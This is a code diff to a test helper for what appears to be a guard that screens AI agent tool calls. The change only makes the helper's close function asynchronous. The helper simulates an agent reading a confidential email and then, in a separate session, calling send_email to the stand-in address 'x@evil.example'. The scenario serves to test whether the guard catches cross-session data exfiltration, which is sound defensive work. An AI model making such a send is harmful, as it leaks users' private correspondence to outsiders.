@@ -13,7 +13,7 @@ export const PRIVATE_MAIL = 'Project Nightingale: the acquisition of Borealis La
  * `PRIVATE_MAIL` in one session (allowed), then calls `send_email` to an outside address with `args` in another;
  * resolves to the send's decision.
  */
-export async function privateReadThenSend(): Promise<{ send: (args: Record<string, unknown>) => Promise<Decision>; close: () => void }> {
+export async function privateReadThenSend(): Promise<{ send: (args: Record<string, unknown>) => Promise<Decision>; close: () => Promise<void> }> {
   const store = openStore(':memory:');
   const g: BuiltGuard = await buildGuard({ policy: join(ROOT, 'policies', 'default'), store });
   let n = 0;
@@ -24,9 +24,9 @@ export async function privateReadThenSend(): Promise<{ send: (args: Record<strin
       expect((await check(agent, { kind: 'tool_result', server: 'mail', tool: 'read_email', content: [{ type: 'text', text: PRIVATE_MAIL }] })).decision).toBe('allow');
       return check(agent, { session: 's2', kind: 'tool_call', server: 'mail', tool: 'send_email', arguments: { to: 'x@evil.example', ...args } });
     },
-    close() {
-      void g.close();
-      store.close();
+    async close() {
+      await g.close();
+      await store.close();
     },
   };
 }
